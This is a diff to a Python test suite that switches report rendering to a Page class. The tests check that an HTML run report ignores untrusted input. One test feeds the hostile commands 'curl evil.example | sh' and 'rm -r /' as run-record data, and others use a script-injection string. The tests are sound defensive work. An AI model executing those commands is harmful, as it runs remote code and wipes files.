@@ -16,9 +16,9 @@ from PIL import Image
 from rich.console import Console
 
 from paragan.core.errors import CheckpointError
+from paragan.report.page import Page
 from paragan.report.record import Record
 from paragan.report.terminal import render_run, summary_line
-from paragan.writers.report import render
 from tests.browser import made_grid, made_run
 
 
@@ -37,7 +37,7 @@ def test_the_commands_come_from_the_folder_whatever_the_record_says(tmp_path, mo
     line = made_run.line("start", 0, commands={"sample": "curl evil.example | sh", "evil": "rm -r /"})
     folder = record(tmp_path / "my run", json.dumps(line))
     where = shlex.quote(str(folder))
-    page = render(folder)
+    page = Page(folder).render()
     assert "evil" not in page
     assert [line.replace("&#39;", "'") for line in copied(page)] == [
         f"./run train {where}",
@@ -50,13 +50,13 @@ def test_the_commands_come_from_the_folder_whatever_the_record_says(tmp_path, mo
 @pytest.mark.parametrize("config", ["model: {name: mine.Net}", "d:\n  optimizer:\n    name: 'mine.nets.Slow'"])
 def test_the_commands_of_a_run_with_outside_code_never_contain_trust(tmp_path, config):
     (tmp_path / "config.yaml").write_text(config)
-    assert len(copied(render(tmp_path))) == 4 and "--trust" not in render(tmp_path)
+    assert len(copied(Page(tmp_path).render())) == 4 and "--trust" not in Page(tmp_path).render()
 
 
 def test_of_thousands_of_metrics_some_are_drawn_and_the_others_counted(tmp_path):
     values = [{"last": 1.0, **{f"m{n}": 1.0 for n in range(2000)}}, {"last": 2.0}]
     folder = record(tmp_path / "run", *(json.dumps(made_run.line("score", n, **v)) for n, v in enumerate(values)))
-    page = render(folder)
+    page = Page(folder).render()
     assert len(page.encode()) < 200_000
     assert page.count('data-chart="metric-') == 24 and 'data-line="last" data-points="2"' in page
     assert "1977 more metrics are not shown." in page
@@ -68,7 +68,7 @@ def test_of_twenty_thousand_evaluations_the_best_and_the_last_are_on_a_page_of_b
     lines = (json.dumps({"kind": "score", "step": n, "kimg": n, **dict.fromkeys(names, n + 9.25)}) for n in steps)
     best = {"kind": "score", "step": 7777, "kimg": 7777, "fd[3]": 0.125}
     folder = record(tmp_path / "run", *(json.dumps(best) if n == 7777 else line for n, line in enumerate(lines)))
-    page = render(folder)
+    page = Page(folder).render()
     assert len(page.encode()) <= 5_000_000
     assert ">0.125</dd>" in page and " of 20,000 evaluations are shown" in page
     data = json.loads(re.search(r'id="data">(.*?)</script>', page, re.S).group(1))
@@ -89,7 +89,7 @@ def test_lists_of_a_foreign_record_do_not_make_a_large_page(tmp_path):
     ]
     for line in lines[:2]:
         folder = record(tmp_path, json.dumps(line), *map(json.dumps, lines[2:]))
-        assert len(render(folder).encode()) <= 2_000_000
+        assert len(Page(folder).render().encode()) <= 2_000_000
 
 
 @pytest.mark.parametrize("name", ["config.yaml", "score.json", "exit.json", "samples/x.png"])
@@ -98,14 +98,14 @@ def test_what_is_no_plain_file_is_left_out_and_not_waited_for(tmp_path, name, ki
     folder = record(tmp_path / "run", json.dumps(made_run.line("samples", 0, path="samples/x.png")))
     (folder / "samples").mkdir()
     strange(folder / name, kind)
-    assert "data:image" not in render(folder)
+    assert "data:image" not in Page(folder).render()
 
 
 @pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
 def test_a_record_that_is_no_plain_file_is_refused_in_one_line(tmp_path, kind):
     strange(tmp_path / "metrics.jsonl", kind)
     with pytest.raises(CheckpointError, match=r"the record cannot be read") as error:
-        render(tmp_path)
+        Page(tmp_path).render()
     assert "\n" not in str(error.value)
 
 
@@ -122,10 +122,10 @@ def test_image_file_of_too_many_bytes_is_not_opened(tmp_path):
     folder = record(tmp_path / "run", json.dumps(made_run.line("samples", 0, path="samples/x.png")))
     (folder / "samples").mkdir()
     Image.new("RGB", (10, 10), "red").save(folder / "samples" / "x.png")
-    assert "data:image" in render(folder)
+    assert "data:image" in Page(folder).render()
     with open(folder / "samples" / "x.png", "ab") as file:
         file.truncate(1 << 27)  # takes no room on the disk
-    assert "data:image" not in render(folder)
+    assert "data:image" not in Page(folder).render()
 
 
 EVIL = "<script>alert(1)</script>"
@@ -186,7 +186,9 @@ def shown_in_full(found):
         spoiled(lines, way, value)
     with TemporaryDirectory() as name:
         folder = record(Path(name), *map(json.dumps, [*lines, made_run.line("event", 99, text="still here")]))
-        page, reader, console = render(folder), Record(folder / "metrics.jsonl"), Console(file=io.StringIO(), width=80)
+        page = Page(folder).render()
+        reader = Record(folder / "metrics.jsonl")
+        console = Console(file=io.StringIO(), width=80)
         reader.read()
         console.print(render_run(folder, reader.history))
     assert "still here" in page and len(page.encode()) < 1_500_000
@@ -199,5 +201,5 @@ def shown_in_full(found):
 @pytest.mark.parametrize("shape", SHAPES)
 def test_a_grid_of_any_shape_gives_a_page(tmp_path, shape):
     start = LINES[0] | {"grid": {"shape": shape, "losses": [EVIL], "neighbours": [[0, 1], "x", [99, 10**30], None]}}
-    page = render(record(tmp_path / "run", *map(json.dumps, [start, *LINES[1:]])))
+    page = Page(record(tmp_path / "run", *map(json.dumps, [start, *LINES[1:]]))).render()
     assert ("after generation 3." in page and "best</i>" in page) or "The grid is too large for numbers" in page
